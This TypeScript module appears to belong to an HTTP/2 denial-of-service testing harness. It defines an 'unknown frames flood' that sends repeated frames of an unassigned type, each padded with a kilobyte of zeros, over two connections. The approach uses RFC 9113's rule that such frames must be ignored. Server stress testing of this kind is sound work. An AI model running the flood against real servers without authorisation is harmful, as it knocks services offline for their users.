import { type Attack, repeated } from "./attack.js";
import { frame } from "./frames.js";

const NO_KNOWN_TYPE = 0xfa;

/** Frames of a type that must be ignored (RFC 9113, section 5.5), with a kilobyte of nothing in each. */
export const unknownFrameFlood: Attack = {
  name: "unknown frames flood",
  connections: 2,
  async run(connection) {
    await connection.begin();
    await connection.flood(repeated(frame(NO_KNOWN_TYPE, 0, 0, Buffer.alloc(1024)), 30), 30);
  },
};
